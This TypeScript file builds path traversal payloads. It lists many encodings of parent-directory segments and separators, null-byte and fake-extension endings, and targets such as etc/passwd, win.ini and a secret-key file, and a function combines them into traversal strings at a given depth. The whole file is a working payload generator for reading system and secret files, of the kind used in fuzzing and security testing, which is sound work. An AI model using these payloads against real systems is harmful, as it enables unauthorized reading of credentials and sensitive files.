/** Path traversal payloads: every encoding of the parent folder before sensitive targets. */

const parentSegments = [
  '..',
  '...',
  '....',
  '.',
  '. .',
  '..;',
  '.%00.',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%252e%252e',
  '%c0%ae%c0%ae',
  '%e0%80%ae%e0%80%ae',
  '%u002e%u002e',
  '\u2024\u2024',
  '\uFF0E\uFF0E',
];
const separators = ['/', '\\', '//', '\\/', '%2f', '%5c', '%252f', '%255c', '%c0%af', '%c1%9c', '\u2215', '\uFF0F', ';/'];
const targets = ['etc/passwd', 'careers.db', 'secret-key', 'windows\\win.ini'];
const roots = ['', '/', 'file:///'];
const endings = ['', '%00', '\0', '%00.pdf', '.pdf', '.txt', '/.', '?', '#', '.pdf\0.exe', '.docx'];

const variantsPerPair = 4;

/** Combines each parent segment with each separator; rotates roots, targets and endings. */
export function buildPathTraversals(depth: number): string[] {
  const paths = new Set<string>();
  let position = 0;
  const next = (list: string[]) => list[position % list.length] ?? '';
  for (const segment of parentSegments) {
    for (const separator of separators) {
      for (const end = position + variantsPerPair; position < end; position++) {
        paths.add(next(roots) + `${segment}${separator}`.repeat(depth) + next(targets) + next(endings));
      }
    }
  }
  return [...paths];
}
